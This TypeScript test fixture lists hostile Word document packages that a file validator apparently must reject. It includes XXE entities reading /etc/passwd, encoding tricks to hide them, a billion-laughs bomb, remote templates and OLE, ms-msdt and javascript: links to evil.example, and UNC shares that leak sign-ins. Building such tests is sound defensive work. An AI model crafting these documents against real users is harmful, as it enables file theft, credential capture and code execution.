import type { HostileManuscript } from './hostile-manuscript.ts'
import { contentTypes, documentXml, manuscript, relations, withRelation } from './plain-manuscript.ts'

const entity = '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
const withDtd = documentXml('&x;').replace('?>', `?>${entity}`)
const laughs = `<!DOCTYPE w [<!ENTITY a "ha">${Array.from({ length: 20 }, (_, n) => `<!ENTITY a${n} "&a;&a;">`).join('')}]>`
const declared = (encoding: string, text: string) => text.replace('UTF-8', encoding)
const withDocument = (document: string | Buffer) => manuscript([], {}, { document })
const withTypes = (types: string) => manuscript([], {}, { types })

const utf16 = (text: string, order: 'le' | 'be', mark: boolean) => {
	const bytes = Buffer.from(mark ? `\ufeff${text}` : text, 'utf16le')
	return order === 'be' ? bytes.swap16() : bytes
}
const utf32 = (text: string) => Buffer.from(Uint32Array.from([...text], (letter) => letter.codePointAt(0) ?? 0).buffer)

const external = (type: string, target: string, part?: string) => withRelation({ type, target, external: true }, part)
const settings = 'word/_rels/settings.xml.rels'
const wordType = 'application/vnd.openxmlformats-officedocument.wordprocessingml'
const macroType = 'application/vnd.ms-word.document.macroEnabled.main+xml'

export const hostileContents: HostileManuscript[] = [
	{ name: 'XXE in the document', make: () => withDocument(withDtd), why: 'a DTD' },
	{ name: 'XXE in UTF-16 LE', make: () => withDocument(utf16(declared('UTF-16', withDtd), 'le', true)), why: 'a DTD' },
	{ name: 'XXE in UTF-16 BE', make: () => withDocument(utf16(declared('UTF-16', withDtd), 'be', true)), why: 'a DTD' },
	{
		name: 'XXE in unmarked UTF-16 LE',
		make: () => withDocument(utf16(declared('UTF-16', withDtd), 'le', false)),
		why: 'a DTD',
	},
	{
		name: 'XXE in unmarked UTF-16 BE',
		make: () => withDocument(utf16(declared('UTF-16', withDtd), 'be', false)),
		why: 'a DTD',
	},
	{
		name: 'XXE in UTF-7',
		make: () => withDocument(declared('UTF-7', documentXml('+ADwAIQ-DOCTYPE x+AD4-'))),
		why: 'an encoding that hides a DTD',
	},
	{ name: 'XXE in UTF-32', make: () => withDocument(utf32(withDtd)), why: 'an encoding that hides a DTD' },
	{
		name: 'XXE in EBCDIC',
		make: () => withDocument(Buffer.from('4c6fa7949340a58599a2899695', 'hex')),
		why: 'an encoding that hides a DTD',
	},
	{
		name: 'a document in Latin-1',
		make: () => withDocument(Buffer.from(declared('ISO-8859-1', documentXml('<w:p>é</w:p>')), 'latin1')),
		why: 'OOXML is UTF-8 or UTF-16',
	},
	{
		name: 'UTF-16 that says UTF-8',
		make: () => withDocument(utf16(documentXml(), 'le', true)),
		why: 'the declaration lies',
	},
	{
		name: 'bytes that are not UTF-8',
		make: () =>
			withDocument(
				Buffer.concat([
					Buffer.from(documentXml('').slice(0, -24)),
					Buffer.from([0xc0, 0xbc]),
					Buffer.from('</w:body></w:document>'),
				]),
			),
		why: 'an overlong <',
	},
	{
		name: 'a billion laughs',
		make: () => withDocument(documentXml('&a19;').replace('?>', `?>${laughs}`)),
		why: 'a DTD',
	},
	{
		name: 'a DTD in relations',
		make: () => manuscript([{ name: settings, data: relations([]).replace('?>', `?>${entity}`) }]),
		why: 'a DTD',
	},
	{ name: 'a DTD in content types', make: () => withTypes(contentTypes().replace('?>', `?>${entity}`)), why: 'a DTD' },
	{
		name: 'a DTD in custom XML',
		make: () => manuscript([{ name: 'customXml/item1.xml', data: `${entity}<a>&x;</a>` }]),
		why: 'a DTD',
	},
	{
		name: 'a DTD in a part called .dat',
		make: () =>
			manuscript(
				[{ name: 'word/extra.dat', data: `${entity}<a/>` }],
				{},
				{ types: contentTypes(undefined, `<Default Extension="dat" ContentType="${wordType}.footer+xml"/>`) },
			),
		why: 'a DTD behind another extension',
	},
	{
		name: 'entities in a drawing',
		make: () => manuscript([{ name: 'word/media/a.svg', data: `${entity}<svg>&x;</svg>` }]),
		why: 'a DTD',
	},
	{ name: 'an unknown entity', make: () => withDocument(documentXml('<w:t>&x;</w:t>')), why: 'not well formed' },
	{
		name: 'deep nesting',
		make: () => withDocument(documentXml(`${'<w:p>'.repeat(2_000_000)}`)),
		why: 'two million levels',
	},
	{
		name: 'a huge attribute',
		make: () => withDocument(documentXml(`<w:p w:a="${'a'.repeat(20_000_000)}"/>`)),
		why: '20 MB in one attribute',
	},
	{
		name: 'an endless name',
		make: () => withDocument(documentXml(`<${'w'.repeat(5_000_000)}/>`)),
		why: '5 MB in one name',
	},
	{
		name: 'tags that do not nest',
		make: () => withDocument(documentXml('<w:p><w:r></w:p></w:r>')),
		why: 'not well formed',
	},
	{ name: 'a document that ends early', make: () => withDocument(documentXml().slice(0, -20)), why: 'not well formed' },
	{
		name: 'a control character in the text',
		make: () => withDocument(documentXml('<w:t>\0</w:t>')),
		why: 'not well formed',
	},
	{
		name: 'HTML as the document',
		make: () => withDocument('<html><body>hello</body></html>'),
		why: 'not a Word document',
	},
	{ name: 'an empty document.xml', make: () => withDocument(''), why: 'not well formed' },
	{ name: 'macros', make: () => manuscript([{ name: 'word/vbaProject.bin', data: 'x' }]), why: 'vbaProject' },
	{
		name: 'macros in other case',
		make: () => manuscript([{ name: 'word/VBAPROJECT.BIN', data: 'x' }]),
		why: 'vbaProject',
	},
	{
		name: 'macros under another name',
		make: () =>
			manuscript([
				{ name: 'word/a.png', data: 'x' },
				{
					name: 'word/_rels/document.xml.rels',
					data: relations([
						{ type: 'http://schemas.microsoft.com/office/2006/relationships/vbaProject', target: 'a.png' },
					]),
				},
			]),
		why: 'vbaProject by its relation',
	},
	{ name: 'a .docm renamed', make: () => withTypes(contentTypes(macroType)), why: 'a macro content type' },
	{
		name: 'a macro content type, written in references',
		make: () => withTypes(contentTypes(macroType.replace('macro', '&#109;&#x61;cro'))),
		why: 'a macro content type',
	},
	{
		name: 'a workbook with macros inside',
		make: () => manuscript([{ name: 'word/embeddings/a.xlsm', data: 'x' }]),
		why: 'macros in an embedded file',
	},
	{
		name: 'a program inside',
		make: () => manuscript([{ name: 'word/embeddings/setup.exe', data: 'MZ' }]),
		why: 'a program',
	},
	{
		name: 'an ActiveX control',
		make: () => withRelation({ type: 'control', target: 'activeX/activeX1.xml' }),
		why: 'ActiveX',
	},
	{
		name: 'a remote template',
		make: () => external('attachedTemplate', 'https://evil.example/t.dotm', settings),
		why: 'remote template',
	},
	{
		name: 'a remote template, written in references',
		make: () =>
			withRelation(
				{ type: 'attached&#84;emplate', target: 'http://evil.example/t.dotm', mode: '&#69;xternal' },
				settings,
			),
		why: 'remote template',
	},
	{
		name: 'a remote template of a strict document',
		make: () =>
			external(
				'http://purl.oclc.org/ooxml/officeDocument/relationships/attachedTemplate',
				'http://evil.example/t',
				settings,
			),
		why: 'remote template',
	},
	{
		name: 'a template on a share',
		make: () => external('attachedTemplate', '\\\\evil.example\\share\\t.dotm', settings),
		why: 'signs in to a stranger',
	},
	{
		name: 'a template on a share as file:',
		make: () => external('attachedTemplate', 'file://evil.example/share/t.dotm', settings),
		why: 'signs in to a stranger',
	},
	{
		name: 'a linked object',
		make: () => external('oleObject', 'mhtml:https://evil.example/x!x-usc:https://evil.example/x'),
		why: 'runs what it loads',
	},
	{
		name: 'a linked object on the own drive',
		make: () => external('oleObject', 'file:///C:/x/y.xlsx'),
		why: 'linked objects only in charts',
	},
	{
		name: 'a frame',
		make: () => external('frame', 'https://evil.example/', 'word/_rels/webSettings.xml.rels'),
		why: 'loads a page',
	},
	{
		name: 'a subdocument',
		make: () => external('subDocument', 'file://evil.example/share/a.docx'),
		why: 'signs in to a stranger',
	},
	{
		name: 'packed HTML',
		make: () => withRelation({ type: 'aFChunk', target: 'a.mht' }),
		why: 'another document inside',
	},
	{
		name: 'an external workbook',
		make: () => external('externalLink', 'https://evil.example/a.xlsx'),
		why: 'loads content',
	},
	{
		name: 'a mail merge source',
		make: () => external('mailMergeSource', 'file://evil.example/s/a.csv', settings),
		why: 'loads content',
	},
	{
		name: 'a picture on a share',
		make: () => external('image', '\\\\evil.example\\share\\a.png'),
		why: 'signs in to a stranger',
	},
	{
		name: 'a link that runs a script',
		make: () => external('hyperlink', 'javascript:alert(1)'),
		why: 'starts a program',
	},
	{
		name: 'a link that starts a tool',
		make: () => external('hyperlink', 'ms-msdt:/id PCWDiagnostic'),
		why: 'starts a program',
	},
	{
		name: 'an address that says it is inside',
		make: () => withRelation({ type: 'image', target: 'https://evil.example/a.png' }),
		why: 'the mode lies',
	},
	{
		name: 'an unknown target mode',
		make: () => withRelation({ type: 'image', target: 'a.png', mode: 'external' }),
		why: 'readers differ',
	},
	{
		name: 'a doubled attribute in a relation',
		make: () =>
			manuscript([
				{
					name: settings,
					data: relations([{ type: 'image', target: 'a.png' }]).replace(
						'Target=',
						'Target="https://evil.example" Target=',
					),
				},
			]),
		why: 'readers differ',
	},
]
